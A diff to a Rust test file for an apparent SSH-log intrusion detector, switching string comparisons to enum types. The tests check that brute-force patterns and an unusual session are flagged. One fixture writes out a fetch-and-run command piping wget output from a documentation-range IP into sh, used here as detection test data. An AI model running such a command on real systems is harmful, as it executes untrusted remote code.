@@ -1,13 +1,15 @@
-//! The pinned behaviours of issue 7, with the agent's own schema-2 model in
-//! the loop (common's detector tests pin them with a model that always says
-//! Normal; here the verdict is what the agent reports).
+//! The pinned detection behaviours, with the agent's own model in the loop
+//! (the detector's own tests pin them with a model that always says Normal;
+//! here the verdict is what the agent reports).
 
 use bfp_agent::pipeline::Pipeline;
 use bfp_agent::report::Record;
 use bfp_agent::scoring::Scorer;
 use bfp_agent::source::Line;
-use bfp_common::analyze::{AnalyzerConfig, LogFormat};
-use bfp_common::testkit::{alice_history, sshd_session};
+use bfp_common::wire::RecordKind;
+use bfp_common::Prediction;
+use bfp_logs::analyze::{AnalyzerConfig, LogFormat};
+use bfp_testkit::{alice_history, sshd_session};
 
 /// The lines through the agent's pipeline with its embedded model.
 fn run(lines: &[String]) -> Vec<Record> {
@@ -25,7 +27,7 @@ fn run(lines: &[String]) -> Vec<Record> {
 }
 
 fn last_session(out: &[Record], user: &str) -> Record {
-    out.iter().rev().find(|r| r.kind == "session" && r.user.as_deref() == Some(user)).cloned().unwrap()
+    out.iter().rev().find(|r| r.kind == RecordKind::Session && r.user.as_deref() == Some(user)).cloned().unwrap()
 }
 
 #[test]
@@ -35,9 +37,10 @@ fn a_mistyping_user_from_home_is_normal() {
     let out = run(&lines);
     let s = last_session(&out, "alice");
     assert_eq!(s.failed_logins, 2);
-    assert_eq!(s.prediction, "Normal", "{s:?}");
+    assert_eq!(s.prediction, Prediction::Normal, "{s:?}");
     // Her history is Normal too.
-    let flagged = out.iter().filter(|r| r.kind == "session" && r.prediction == "Suspicious").count();
+    let flagged =
+        out.iter().filter(|r| r.kind == RecordKind::Session && r.prediction == Prediction::Suspicious).count();
     assert_eq!(flagged, 0, "{out:?}");
 }
 
@@ -54,7 +57,7 @@ fn the_same_user_from_a_new_network_at_three_running_wget_pipe_sh_is_suspicious(
         &["/usr/bin/wget -qO- http://203.0.113.9/i.sh | sh"],
     ));
     let s = last_session(&run(&lines), "alice");
-    assert_eq!(s.prediction, "Suspicious", "{s:?}");
+    assert_eq!(s.prediction, Prediction::Suspicious, "{s:?}");
     let all = s.reasons.join(" | ");
     assert!(all.contains("203.0.113.0/24") || all.contains("network new to this user"), "{all}");
 }
@@ -73,10 +76,10 @@ fn a_slow_brute_force_of_two_attempts_an_hour_over_a_day_makes_its_source_suspic
     }
     let out = run(&lines);
     let ip = "203.0.113.7".parse().unwrap();
-    let sources: Vec<_> = out.iter().filter(|r| r.kind == "source" && r.source_ip == Some(ip)).collect();
+    let sources: Vec<_> = out.iter().filter(|r| r.kind == RecordKind::Source && r.source_ip == Some(ip)).collect();
     assert!(!sources.is_empty());
     assert!(sources.iter().any(|r| r.details["kind"] == "slow_brute_force"), "{sources:?}");
-    assert!(sources.iter().all(|r| r.prediction == "Suspicious"), "{sources:?}");
+    assert!(sources.iter().all(|r| r.prediction == Prediction::Suspicious), "{sources:?}");
 }
 
 #[test]
@@ -95,5 +98,5 @@ fn two_hundred_addresses_once_each_within_an_hour_are_one_campaign() {
     let out = run(&lines);
     let campaigns: Vec<_> = out.iter().filter(|r| r.details["kind"] == "distributed_brute_force").collect();
     assert_eq!(campaigns.len(), 1, "{campaigns:?}");
-    assert_eq!((campaigns[0].kind.as_str(), campaigns[0].prediction.as_str()), ("device", "Suspicious"));
+    assert_eq!((campaigns[0].kind.as_str(), campaigns[0].prediction.label()), ("device", "Suspicious"));
 }
